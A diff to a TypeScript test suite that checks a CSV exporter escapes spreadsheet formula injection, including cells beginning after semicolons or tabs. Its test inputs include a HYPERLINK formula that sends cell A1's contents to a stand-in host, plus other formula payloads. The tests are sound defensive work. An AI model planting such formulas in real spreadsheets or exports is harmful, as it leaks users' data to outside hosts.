@@ -25,19 +25,25 @@ function parseCsv(text: string): string[][] {
 
 /** What a spreadsheet takes for the beginning of a formula. */
 const FORMULA = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\t\r\n]/;
+/** The same where cells are separated by semicolons or tabs, and quotes are none. */
+const FORMULA_ELSEWHERE = /[;\t\r\n]"*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
 
 describe('CSV', () => {
   it('is read back as it was written, whatever the text, and holds no formula', async () => {
     await fc.assert(
       fc.asyncProperty(anyEntries, async (entries) => {
-        const [header = [], ...rows] = parseCsv(await collect(toCsv(entries)));
+        const text = await collect(toCsv(entries));
+        expect(text).not.toMatch(FORMULA_ELSEWHERE);
+        const [header = [], ...rows] = parseCsv(text);
         expect(rows).toHaveLength(entries.length);
         for (const [i, entry] of entries.entries()) {
           const row = Object.fromEntries(header.map((name, column) => [name, rows[i]?.[column] ?? '']));
           expect(Object.values(row).filter((cell) => FORMULA.test(cell))).toEqual([]);
           const tenant = entry.correlation?.tenant ?? '';
-          expect(row.tenant).toBe(FORMULA.test(tenant) ? `'${tenant}` : tenant);
-          expect(row.inputs).toBe(entry.inputs === undefined ? '' : JSON.stringify(entry.inputs));
+          const isPlain = !FORMULA.test(tenant) && !FORMULA_ELSEWHERE.test(tenant);
+          expect(row.tenant?.replaceAll("'", '')).toBe(tenant.replaceAll("'", ''));
+          if (isPlain) expect(row.tenant).toBe(tenant);
+          expect(row.inputs === '' ? undefined : JSON.parse(row.inputs as string)).toEqual(entry.inputs);
           expect([row.index, row.hash]).toEqual([String(entry.index), entry.hash]);
         }
       }),
@@ -61,8 +67,31 @@ describe('CSV', () => {
     ];
     const entries = entriesOf(texts.map((reason) => ({ reason }))).map((entry) => ({ ...entry, hash }));
     const [header = [], ...rows] = parseCsv(await collect(toCsv(entries)));
-    expect(rows.map((row) => row[header.indexOf('reason')])).toEqual(texts.map((text) => `'${text}`));
+    const behind = /^([\t\r\n])=/;
+    expect(rows.map((row) => row[header.indexOf('reason')])).toEqual(
+      texts.map((text) => `'${text.replace(behind, "$1'=")}`),
+    );
     expect(rows.map((row) => row[header.indexOf('hash')])).toEqual(texts.map(() => hash));
+  });
+
+  it('begins no formula behind a semicolon or a tab, where a spreadsheet of another locale begins a cell', async () => {
+    const attributes = { note: 'a;=1', quoted: ';"+1', minus: 'a; -1' };
+    const texts = ['x;=HYPERLINK("http://x/?"&A1)', 't\t=1+1', 'n\n@A1', ';"=1"', ';;＝1', 'a;b=c', '1;2'];
+    const entries = entriesOf(texts.map((reason) => ({ reason, attributes })));
+    const text = await collect(toCsv(entries));
+    expect(text).not.toMatch(FORMULA_ELSEWHERE);
+    const [header = [], ...rows] = parseCsv(text);
+    expect(rows.map((row) => row[header.indexOf('reason')])).toEqual([
+      'x;\'=HYPERLINK("http://x/?"&A1)',
+      "t\t'=1+1",
+      "n\n'@A1",
+      ';"\'=1"',
+      ";;'＝1",
+      'a;b=c',
+      '1;2',
+    ]);
+    for (const row of rows)
+      expect(JSON.parse(row[header.indexOf('attributes')] as string)).toEqual(attributes);
   });
 
   it('has a header even when there is nothing else, and names sealed text', async () => {
